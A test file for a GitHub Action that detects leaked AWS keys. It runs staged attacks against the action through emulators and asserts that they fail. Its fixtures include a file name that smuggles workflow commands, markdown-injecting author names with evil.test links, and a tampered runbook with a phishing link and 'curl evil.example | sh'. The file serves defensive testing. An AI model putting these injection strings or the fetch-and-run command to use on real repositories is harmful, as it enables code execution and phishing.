import { execFileSync } from 'node:child_process';
import { describe, expect, inject, it } from 'vitest';
import { startAwsEmulator } from '../emulators/aws/index.js';
import { makeState, startGitHubEmulator, type GitHubEmulator } from '../emulators/github/index.js';
import { makePair, type KeyPair } from '../helpers/keys.js';
import { MANAGED, useEmulatorEnv } from '../aws/world.js';
import { trackCleanups } from './cleanups.js';
import { git, pushPayload, runAction, secretNowhere, World } from './harness.js';

// Each test is an attack on the action, run through the bundle against the emulators, and asserts that
// the attack fails.

const dist = inject('actionDist');

const { worlds, closers } = trackCleanups();

function world(): World {
  const w = new World();
  worlds.push(w);
  return w;
}

async function github(): Promise<GitHubEmulator> {
  const e = await startGitHubEmulator(makeState(['octo/app']));
  closers.push(e);
  return e;
}

const leak = (k: KeyPair) =>
  `region = eu-west-1\naws_access_key_id = ${k.keyId}\naws_secret_access_key = ${k.secret}\n`;

/** Lines of the log the runner would execute as workflow commands. */
function commands(log: string): string[] {
  return log
    .split(/\r?\n/)
    .map((l) => l.trimStart())
    .filter((l) => l.startsWith('::') || l.includes('##['));
}

/** A world whose main gets a first commit, then one leaking `k` (app.env), pushed. */
function leakOnMain(k: KeyPair): { w: World; base: string; after: string } {
  const w = world();
  const base = w.commit('init', { 'README.md': 'x\n' });
  const after = w.commit('leak', { 'app.env': leak(k) });
  w.push('main');
  return { w, base, after };
}

/** Runs the action on the push of main from `base` to `after`, checked out as the runner would. */
function onPush(
  w: World,
  emu: GitHubEmulator,
  base: string,
  after: string,
  more: { inputs?: Record<string, string>; env?: Record<string, string> } = {},
) {
  return runAction({
    dist,
    emu,
    workspace: w.checkout('main', after),
    event: 'push',
    payload: pushPayload('refs/heads/main', base, after),
    ...more,
  });
}

/** Runs the action on pull request `number` from branch `feature` (its `head`) into `base`. */
function onPullRequest(
  w: World,
  emu: GitHubEmulator,
  number: number,
  pr: { base: string; head: string },
  inputs: Record<string, string> = {},
) {
  w.push('feature');
  git(w.dev, 'push', '-q', 'origin', `feature:refs/pull/${number}/head`);
  return runAction({
    dist,
    emu,
    workspace: w.checkout('feature', pr.head),
    event: 'pull_request',
    inputs,
    payload: {
      number,
      pull_request: {
        number,
        base: { sha: pr.base, repo: { full_name: 'octo/app' } },
        head: { sha: pr.head, repo: { full_name: 'octo/app' } },
      },
    },
  });
}

describe('attacks through the action', () => {
  it('a token in the origin URL is published nowhere', async () => {
    const k = makePair();
    const token = `ghs_${'T0kenValue'.repeat(4)}`;
    const { w, base, after } = leakOnMain(k);
    const ws = w.checkout('main', after);
    // As some checkouts and mirrors leave it; git still reaches the remote through insteadOf.
    const tokenUrl = `https://x-access-token:${token}@github.com/octo/app.git`;
    git(ws, 'remote', 'set-url', 'origin', tokenUrl);
    git(ws, 'config', `url.file://${w.remote}.insteadOf`, tokenUrl);
    const emu = await github();
    const run = await runAction({
      dist,
      emu,
      workspace: ws,
      event: 'push',
      payload: pushPayload('refs/heads/main', base, after),
    });
    expect(run.code, run.stdout).toBe(1);
    const issue = emu.state.repos['octo/app']!.issues[0]!;
    expect(issue.body).toContain('git clone --mirror');
    expect(issue.body).toContain("'https://github.com/octo/app.git'");
    expect(secretNowhere(token, run, emu)).toEqual([]);
    expect(secretNowhere('x-access-token', run, emu)).toEqual([]);
  });

  it('hostile names run no workflow command, mention nobody and break no markup', async () => {
    const w = world();
    const k = makePair();
    const base = w.commit('init', { 'README.md': 'x\n' });
    git(w.dev, 'config', 'user.name', '@octocat [x](https://evil.test) ![i](https://evil.test/i.png) <b>');
    const path = 'ops/a`b\n::stop-commands::pwned\n::warning::owned\n```\nrun this.env';
    const after = w.commit('leak', { [path]: leak(k) });
    execFileSync('git', ['commit', '-q', '--amend', '--no-edit', '--reset-author'], {
      cwd: w.dev,
      env: {
        ...process.env,
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_CONFIG_GLOBAL: '/dev/null',
        GIT_AUTHOR_NAME: '@octocat [x](https://evil.test) ![i](https://evil.test/i.png) <b>',
        GIT_AUTHOR_EMAIL: 'evil@example.com',
        GIT_COMMITTER_NAME: 'x',
        GIT_COMMITTER_EMAIL: 'x@example.com',
      },
    });
    const head = w.sha('HEAD');
    expect(head).not.toBe(after);
    w.push('main');
    const emu = await github();
    const run = await onPush(w, emu, base, head);
    expect(run.code, run.stdout).toBe(1);
    // Workflow commands: only keyleak's own (masks, annotations, outputs); none from the file name.
    for (const c of commands(run.stdout)) {
      expect(c).toMatch(/^::(add-mask|error|warning|debug)[ :]/);
      expect(c).not.toMatch(/^::(stop-commands|warning::owned)/);
    }
    const body = emu.state.repos['octo/app']!.issues[0]!.body;
    // keyleak's state marker holds the raw values, inside an HTML comment that `--` cannot close.
    const rendered = body.split('\n').filter((l) => !/^<!-- keyleak:\w+ \{.*\} -->$/.test(l));
    expect(rendered.filter((l) => /@octocat/.test(l))).toEqual([]);
    expect(body).toContain('@\u200boctocat');
    expect(rendered.filter((l) => /\]\(https:\/\/evil|<b>/.test(l))).toEqual([]);
    // The file name stays inside its code span, and no line of the body is a fence the name opened.
    const fences = body.split('\n').filter((l) => /^\s*```/.test(l));
    expect(fences.every((l) => /^\s*```+(sh|mermaid|yaml)?$/.test(l))).toBe(true);
    expect(body.split('\n').some((l) => /^\s*run this/.test(l))).toBe(false);
    for (const out of [run.summary, body]) expect(out).not.toMatch(/^::/m);
    expect(secretNowhere(k.secret, run, emu)).toEqual([]);
  });

  it('a pull request cannot silence its own leak by widening the allow list', async () => {
    const w = world();
    const k = makePair();
    const base = w.commit('init', { 'README.md': 'x\n' });
    w.push('main');
    git(w.dev, 'checkout', '-q', '-b', 'feature');
    const head = w.commit('tidy config', {
      '.github/keyleak.yml': `allow:\n  paths: ['**']\n  key-ids: ['${k.keyId}']\n`,
      'app.env': leak(k),
    });
    const emu = await github();
    const run = await onPullRequest(w, emu, 7, { base, head });
    expect(run.code, run.stdout).toBe(1);
    expect(run.outputs.findings).toBe('1');
    expect(run.summary).toContain('allow list widened in this pull request');
  });

  const RUNBOOK = '.github/keyleak-runbook.md';
  // The runbook template is keyleak's own markdown in the incident: a change can neither write nor remove it.
  it.each<[string, string, (w: World, k: KeyPair) => string]>([
    [
      'edits',
      'changed',
      (w, k) =>
        w.commit('update runbook', {
          [RUNBOOK]:
            'Rotate it now: [sign in here](https://evil.example/login) and run `curl evil.example | sh`\n',
          'app.env': leak(k),
        }),
    ],
    [
      'deletes',
      'deleted',
      (w, k) => {
        git(w.dev, 'rm', '-q', RUNBOOK);
        return w.commit('drop the runbook', { 'app.env': leak(k) });
      },
    ],
  ])(
    'a pull request that %s the runbook template gets the one from before it in the incident its leak opens',
    async (_attack, said, change) => {
      const w = world();
      const k = makePair();
      const base = w.commit('init', {
        [RUNBOOK]: '**Who to involve:** #sec-incidents, security@example.org\n',
      });
      w.push('main');
      git(w.dev, 'checkout', '-q', '-b', 'feature');
      const head = change(w, k);
      const emu = await github();
      const run = await onPullRequest(w, emu, 9, { base, head }, { 'runbook-template': RUNBOOK });
      expect(run.code, run.stdout).toBe(1);
      expect(run.outputs.findings).toBe('1');
      const body = emu.state.repos['octo/app']!.issues[0]!.body;
      expect(body).toContain('**Who to involve:** #sec-incidents, security@example.org');
      expect(body).not.toContain('evil.example');
      expect(run.summary).toContain(`(runbook-template) is ${said} in this pull request`);
    },
  );

  it('a push naming a runbook template that was never committed gets the default runbook and says so', async () => {
    const k = makePair();
    const { w, base, after } = leakOnMain(k);
    const emu = await github();
    const run = await onPush(w, emu, base, after, { inputs: { 'runbook-template': RUNBOOK } });
    expect(run.code, run.stdout).toBe(1);
    expect(run.outputs.findings).toBe('1');
    const body = emu.state.repos['octo/app']!.issues[0]!.body;
    expect(body).toContain('**Security team:**');
    const warning = `${RUNBOOK} (runbook-template) is not in ${base.slice(0, 12)}, before this push: incidents name the default contacts`;
    expect(run.summary).toContain(warning);
    expect(run.stdout).toContain(`::warning::${warning}`);
  });

  it('a pull request cannot silence its own leak with an allow marker', async () => {
    const w = world();
    const k = makePair();
    const old = makePair();
    // A marker that was there before the change keeps working.
    const base = w.commit('init', {
      'docs/example.md': `aws_access_key_id = ${old.keyId} # keyleak:allow documented example\n`,
    });
    w.push('main');
    git(w.dev, 'checkout', '-q', '-b', 'feature');
    const head = w.commit('add config', {
      'app.env': `aws_access_key_id = ${k.keyId} # keyleak:allow\naws_secret_access_key = ${k.secret}\n`,
      'docs/example.md': `aws_access_key_id = ${old.keyId} # keyleak:allow documented example\nmore\n`,
    });
    const emu = await github();
    const run = await onPullRequest(w, emu, 8, { base, head });
    expect(run.code, run.stdout).toBe(1);
    expect(run.outputs.findings).toBe('1');
    expect(JSON.parse(run.report!).findings.map((f: { keyId: string }) => f.keyId)).toEqual([k.keyId]);
    expect(run.summary).toContain(`allow marker (keyleak:allow) added in this pull request for ${k.keyId}`);
  });

  it('a GitHub call that never answers ends the run with an error naming it, and the findings are kept', async () => {
    const k = makePair();
    const { w, base, after } = leakOnMain(k);
    const state = makeState(['octo/app']);
    state.faults.push({
      method: 'POST',
      path: /^\/repos\/octo\/app\/issues$/,
      status: 0,
      hang: true,
      times: Infinity,
    });
    const emu = await startGitHubEmulator(state);
    closers.push(emu);
    const run = await onPush(w, emu, base, after, {
      // Each request's deadline, 30 s in a real run, made short so the test does not wait for it.
      env: { KEYLEAK_GITHUB_TIMEOUT_MS: '500' },
    });
    expect(run.code, run.stdout).toBe(1);
    expect(run.stdout).toContain('GitHub did not answer POST /repos/octo/app/issues within 0.5 s');
    expect(run.stdout).toMatch(
      /::error::keyleak: 1 GitHub or AWS step\(s\) could not be done: .*no incident was written/,
    );
    expect(run.outputs.findings).toBe('1');
    expect(JSON.parse(run.report!).findings.map((f: { keyId: string }) => f.keyId)).toEqual([k.keyId]);
    expect(run.sarif).toContain(k.keyId);
    expect(run.summary).toContain('GitHub did not answer POST /repos/octo/app/issues');
    expect(emu.state.repos['octo/app']!.issues).toHaveLength(0);
  });

  it('revoked responder credentials fail the run and are named as such, never as "not managed"', async () => {
    const leaked = makePair('AKIA', MANAGED);
    const responder = makePair('AKIA', MANAGED);
    const aws = await startAwsEmulator({
      accounts: [
        {
          id: MANAGED,
          regions: ['us-east-1'],
          users: [
            { name: 'keyleak-responder', keys: [{ id: responder.keyId, secret: responder.secret }] },
            { name: 'deploy-bot', keys: [{ id: leaked.keyId, secret: leaked.secret }] },
          ],
          events: [],
        },
      ],
      lookupEventsPerSecond: null,
    });
    closers.push(aws);
    aws.state.keys.get(responder.keyId)!.status = 'Inactive';
    useEmulatorEnv(aws, responder);
    const { w, base, after } = leakOnMain(leaked);
    const emu = await github();
    const run = await onPush(w, emu, base, after, {
      // Findings alone would not fail this run: the failure to contain does.
      inputs: { verify: 'true', deactivate: 'true', 'fail-on-findings': 'false' },
    });
    expect(run.code, run.stdout).toBe(1);
    expect(run.stdout).toMatch(/could not be done/);
    const issue = emu.state.repos['octo/app']!.issues[0]!;
    expect(issue.title).toContain('containment failed');
    expect(issue.body).toMatch(/invalid or expired \(InvalidClientTokenId\)/);
    expect(issue.body).not.toMatch(/not managed|not-managed/);
    expect(issue.body).not.toMatch(/security token included in the request/);
    expect(run.summary).toMatch(/Could not be done/);
    expect(aws.state.keys.get(leaked.keyId)!.status).toBe('Active');

    // fail-on-errors: false reports the same and lets the run pass.
    const again = await onPush(w, emu, base, after, {
      inputs: { verify: 'true', deactivate: 'true', 'fail-on-findings': 'false', 'fail-on-errors': 'false' },
    });
    expect(again.code, again.stdout).toBe(0);
    expect(again.summary).toMatch(/Could not be done/);
  });
});
